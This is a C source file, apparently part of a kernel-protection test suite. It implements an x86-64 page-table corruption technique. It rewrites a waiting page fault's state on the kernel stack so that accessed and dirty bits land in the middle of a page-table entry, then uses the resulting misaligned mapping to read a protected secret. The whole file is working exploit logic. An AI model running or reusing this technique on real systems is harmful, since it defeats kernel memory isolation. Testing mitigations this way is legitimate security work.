// SPDX-License-Identifier: GPL-2.0-only
/*
 * Where an entry is written lies on the stack of a fault, which waits for the lock of a
 * table that is made to look held. It is made a place in the middle of an entry of the
 * attacker's: what is written there is looked at as an entry, and is the number of a page
 * in the one that it is in.
 */
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "chunk.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define PAGES_PART	0x54
#define TABLES_PART	0x58
#define OWN_PART	0x6a
#define TABLES		4096
#define PAGES_EACH	20	/* pages for each table */
#define NR_PAGES	(TABLES * PAGES_EACH)
#define FRAMES		(1UL << 19)
#define FAULTER_CPU	1
#define PAUSE		2000	/* microseconds */
#define PATIENCE	500	/* pauses */
#define STACK_WORDS	4096
#define TABLE_LOCK	40
#define REFERENCES	8

/* What a write sets in an entry, and where that is if it is two bytes too far. */
#define BYTES		2
#define SET		(PTE_ACCESSED | PTE_DIRTY)
#define BITS		(SET << 8 * BYTES)

/* struct vm_fault, from the entry that was seen to the lock */
enum { SEEN, COW_PAGE, PAGE, PLACE, LOCK, FAULT_WORDS };

static struct {
	volatile bool ready, go, done;
	volatile uint64_t place, lock, seen;
} *shared;

struct pair {
	volatile char *at;	/* what the entry maps */
	uint64_t entry, value;
	int table;
};

static short table_of[FRAMES];	/* one more than its number */

/* A write to what is not mapped writable. */
static void fault_once(void)
{
	volatile char *own = mmap((void *)user_room(OWN_PART), PAGE_SIZE, PROT_READ | PROT_WRITE,
				  MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	struct slot slot;

	stay_on_cpu(FAULTER_CPU);
	(void)own[0];
	if (kwalk((uint64_t)own, LEVEL_PTE, 0, &slot))
		_exit(1);
	shared->place = slot.slot;
	shared->seen = slot.value;
	shared->lock = page_of(slot.slot) + TABLE_LOCK;
	shared->ready = true;
	while (!shared->go)
		usleep(PAUSE);
	own[0] = 1;
	shared->done = true;
	pause();
}

static pid_t start_faulter(void)
{
	pid_t pid;

	shared = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pid = fork();
	if (!pid)
		fault_once();
	while (!shared->ready && !waitpid(pid, NULL, WNOHANG))
		usleep(PAUSE);
	return shared->ready ? pid : 0;
}

static bool change_fault(const struct task *task, uint64_t place, uint64_t seen)
{
	static uint64_t words[STACK_WORDS];
	size_t nr = task->stack_size / sizeof(*words), i, at;
	bool changed = false;

	for (at = 0; at < task->stack_size; at += PAGE_SIZE)
		if (kread(task->stack + at, (char *)words + at, PAGE_SIZE))
			return false;
	for (i = 0; i + FAULT_WORDS <= nr; i++) {
		if (words[i + PLACE] != shared->place || words[i + LOCK] != shared->lock)
			continue;
		kwrite64(task->stack + (i + PLACE) * sizeof(*words), place);
		kwrite64(task->stack + (i + SEEN) * sizeof(*words), seen);
		changed = true;
	}
	return changed;
}

static bool fault_at(pid_t pid, uint64_t place)
{
	struct task task;
	bool changed;
	int i;

	if (ktask(pid, &task) || task.stack_size > STACK_WORDS * sizeof(uint64_t))
		return false;
	set_lock(shared->lock, true);
	shared->go = true;
	usleep(50 * PAUSE);
	changed = change_fault(&task, place, kread64(place));
	set_lock(shared->lock, false);
	for (i = 0; i < PATIENCE && !shared->done; i++)
		usleep(PAUSE);
	return changed;
}

/* ---- entries and tables ---- */

static bool fill(volatile char *base, volatile char *pages)
{
	struct slot slot;
	int i, j;

	for (i = 0; i < TABLES; i++) {
		(void)base[i * PMD_SIZE];
		for (j = 0; j < PAGES_EACH; j++)
			pages[(i * PAGES_EACH + j) * PAGE_SIZE] = 1;
	}
	for (i = 0; i < TABLES; i++) {
		if (kwalk((uint64_t)base + i * PMD_SIZE, LEVEL_PTE, 0, &slot))
			return false;
		slot.slot -= direct_map_base();
		if (slot.slot / PAGE_SIZE < FRAMES)
			table_of[slot.slot / PAGE_SIZE] = i + 1;
	}
	return true;
}

/* In the middle of it, there must be one that is not present, and that can be written. */
static bool is_usable(uint64_t value)
{
	uint64_t seen = value >> 8 * BYTES, phys = (value | BITS) & PTE_PFN_MASK;

	return (value & PTE_PRESENT) && !(seen & PTE_PRESENT) && (seen & PTE_RW) &&
	       (value & BITS) != BITS && phys / PAGE_SIZE < FRAMES && table_of[phys / PAGE_SIZE];
}

static bool find_pair(volatile char *pages, struct pair *pair)
{
	uint64_t words[512], at;
	struct slot slot;
	int i;

	for (at = (uint64_t)pages; at < (uint64_t)pages + NR_PAGES * PAGE_SIZE; at += PMD_SIZE) {
		if (kwalk(at, LEVEL_PTE, 0, &slot) ||
		    kread(slot.slot & -PAGE_SIZE, words, sizeof(words)))
			continue;
		for (i = 0; i < 510; i++) {
			if (!is_usable(words[i]))
				continue;
			pair->at = (volatile char *)at + i * PAGE_SIZE;
			pair->entry = (slot.slot & -PAGE_SIZE) + i * sizeof(*words);
			pair->value = words[i];
			pair->table = table_of[((words[i] | BITS) & PTE_PFN_MASK) / PAGE_SIZE] - 1;
			return true;
		}
	}
	return false;
}

static enum outcome use_table(const struct pair *pair, volatile char *base)
{
	uint64_t value = kread64(pair->entry);
	char text[SECRET_SIZE] = "";
	struct window window;

	flush_tlb();
	if ((value & PTE_PFN_MASK) != ((pair->value | BITS) & PTE_PFN_MASK))
		return lost("the entry 0x%lx is 0x%lx", pair->value, value);
	/* Who unmaps it would free the table. */
	add_reference(memory_map_base() + (value & PTE_PFN_MASK) / PAGE_SIZE * STRUCT_PAGE,
		      REFERENCES);
	if (!window_open_behind(&window, base + pair->table * PMD_SIZE))
		return broken("no window");
	take_secret_in(pair->at, &window, text, sizeof(text));
	return judge_secret(text, 0);
}

enum outcome middle_entry(void)
{
	volatile char *base, *pages;
	struct pair pair;
	pid_t pid;

	if (!is_protected())
		return user_pte();
	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	pid = start_faulter();
	if (!pid)
		return broken("no process that writes");
	stay_on_cpu(0);
	base = sparse_region(user_room(TABLES_PART), TABLES, PROT_READ);
	pages = map_small_pages(PAGES_PART, NR_PAGES * PAGE_SIZE);
	if (!base || !pages || !fill(base, pages))
		return broken("no tables and pages");
	if (!find_pair(pages, &pair))
		return broken("no entry is two bits away from a table");
	if (!fault_at(pid, pair.entry + BYTES))
		return broken("no fault waited");
	return use_table(&pair, base);
}
#else
enum outcome middle_entry(void)
{
	return skipped("x86-64 only");
}
#endif
